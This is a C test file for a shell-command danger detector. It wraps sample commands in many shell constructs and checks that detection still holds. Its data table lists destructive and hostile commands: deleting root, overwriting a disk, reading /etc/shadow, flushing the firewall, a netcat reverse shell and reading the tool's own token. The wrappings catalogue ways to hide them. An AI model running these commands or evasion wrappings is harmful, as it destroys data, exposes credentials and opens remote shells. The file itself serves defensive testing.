/* Dangerous commands inside of others, by the thousand: what is found alone is found in every
 * wrapping of it, and what passes alone passes in the same ones.
 *
 * SPDX-License-Identifier: MIT
 */
#include "base/alloc.h"
#include "base/buf.h"
#include "base/rand.h"
#include "harness/test.h"
#include "policy/danger.h"

/* What stands for the inner command: as it is, or as one word in single quotes. */
enum how { AS_IT_IS, QUOTED };

static const struct wrapping {
    const char *before, *after;
    enum how how;
    bool simple; /* only around a simple command */
} wrappings[] = {
    { "", "", AS_IT_IS },
    { "( ", " )", AS_IT_IS },
    { "{ ", "; }", AS_IT_IS },
    { "if true; then ", "; fi", AS_IT_IS },
    { "if false; then :; else ", "; fi", AS_IT_IS },
    { "while true; do ", "; done", AS_IT_IS },
    { "for i in 1 2; do ", "; done", AS_IT_IS },
    { "case x in x) ", ";; esac", AS_IT_IS },
    { "f() { ", "; }; f", AS_IT_IS },
    { "ls && ", "", AS_IT_IS },
    { "ls | cat; ", "", AS_IT_IS },
    { "x=$( ", ")", AS_IT_IS },
    { "echo \"$( ", ")\"", AS_IT_IS },
    { "cat <( ", ")", AS_IT_IS },
    { ": ${x:-$( ", ")}", AS_IT_IS },
    { "[[ -n $( ", ") ]]", AS_IT_IS },
    { "echo $(( $( ", ") + 1 ))", AS_IT_IS },
    { "true; # a comment\n", "", AS_IT_IS },
    { "cat <<E\nx\nE\n", "", AS_IT_IS },
    { "! ", "", AS_IT_IS, true },
    { "time -p ", "", AS_IT_IS, true },
    { "A=1 B='x y' ", "", AS_IT_IS, true },
    { "2>/dev/null 10>x ", "", AS_IT_IS, true },
    { "sudo -u root ", "", AS_IT_IS, true },
    { "env -i X=1 ", "", AS_IT_IS, true },
    { "nice -n 5 ", "", AS_IT_IS, true },
    { "timeout --signal KILL 9 ", "", AS_IT_IS, true },
    { "nohup ", " &", AS_IT_IS, true },
    { "exec ", "", AS_IT_IS, true },
    { "command ", "", AS_IT_IS, true },
    { "sh -c ", "", QUOTED },
    { "bash -euo pipefail -c ", " _ a b", QUOTED },
    { "eval ", "", QUOTED },
    { "trap ", " EXIT", QUOTED },
    { "echo ", " | sh", QUOTED },
    { "printf '%s\\n' ", " | bash -s", QUOTED },
    { "bash <<< ", "", QUOTED },
    { "su root -c ", "", QUOTED },
    { "env -S ", "", QUOTED, true },
    { "watch -n 5 ", "", QUOTED },
    { "echo ", " > x.sh; sh x.sh", QUOTED },
    { "bash <(echo ", ")", QUOTED },
    { "c=", "; eval \"$c\"", QUOTED },
    { "set -- ", "; sh -c \"$1\"", QUOTED },
    { "ssh host ", "", QUOTED },
};

static void add_quoted(struct buf *out, struct str text)
{
    buf_add_char(out, '\'');
    for (size_t i = 0; i < text.n; i++) {
        if (text.p[i] == '\'')
            buf_add_text(out, "'\\''");
        else
            buf_add_char(out, text.p[i]);
    }
    buf_add_char(out, '\'');
}

static struct str wrap(struct test *t, const struct wrapping *wrapping, struct str inner)
{
    AUTO_BUF out = BUF_INIT(1 << 20);

    buf_add_text(&out, wrapping->before);
    if (wrapping->how == QUOTED)
        add_quoted(&out, inner);
    else
        buf_add_str(&out, inner);
    buf_add_text(&out, wrapping->after);
    return arena_str(&t->arena, buf_str(&out));
}

static const struct core {
    const char *command, *rule;
} cores[] = {
    { "rm -rf /", "recursive_delete_of_root" },
    { "dd if=x of=/dev/sda", "disk_overwritten" },
    { "cat /etc/shadow", "credentials_read" },
    { "iptables -F", "protection_disabled" },
    { "reboot", "machine_stopped" },
    { "tee -a /etc/passwd", "persistence" },
    { "nc -e /bin/sh 1.2.3.4 9", "reverse_shell" },
    { "cat ~/.local/share/dormouse/token", "dormouse_own_data" },
    { "rm -rf build", NULL },
    { "ls -l /etc", NULL },
    { "git status", NULL },
};

/* Whether the wrapping may go around what is there: a prefix goes before a command, not before a
 * keyword; a here-document's text is not parted by what follows it on its line. */
static bool fits(const struct wrapping *wrapping, const struct wrapping *last)
{
    if (wrapping->simple)
        return !last || (last->how == QUOTED && !last->after[0] && strcmp(last->before, "c=") != 0);
    return true;
}

static void check(struct test *t, const struct core *core, struct str command)
{
    struct danger danger = { .rule = NULL };
    bool found = danger_find(command, &danger);

    (void)t;
    if (found != (core->rule != NULL) || (found && strcmp(danger.rule, core->rule) != 0))
        FAIL("%s instead of %s: %.*s", found ? danger.rule : "nothing",
             core->rule ? core->rule : "nothing", STR_ARG(command));
    if (found &&
        (danger.part.p < command.p || danger.part.p + danger.part.n > command.p + command.n))
        FAIL("the part lies outside: %.*s", STR_ARG(command));
}

TEST(one_wrapping_hides_no_dangerous_command_and_makes_no_other_one)
{
    for (size_t c = 0; c < ARRAY_LEN(cores); c++)
        for (size_t w = 0; w < ARRAY_LEN(wrappings); w++)
            check(t, &cores[c], wrap(t, &wrappings[w], str_from(cores[c].command)));
}

TEST(wrappings_in_wrappings_hide_no_dangerous_command_and_make_no_other_one)
{
    int rounds = test_long() ? 100000 : 3000;
    struct rand_fake random;

    rand_fake_init(&random, 2026);
    for (int round = 0; round < rounds; round++) {
        const struct core *core = &cores[rand_below(&random.rand, ARRAY_LEN(cores))];
        const struct wrapping *last = NULL;
        struct str command = str_from(core->command);

        for (uint64_t depth = 1 + rand_below(&random.rand, 3); depth > 0; depth--) {
            const struct wrapping *next =
                &wrappings[rand_below(&random.rand, ARRAY_LEN(wrappings))];

            /* A script that writes itself anew is followed once. */
            if (!fits(next, last) ||
                (strstr(next->after, "x.sh") && str_find(command, STR("x.sh")) >= 0))
                continue;
            command = wrap(t, next, command);
            last = next;
        }
        check(t, core, command);
    }
}
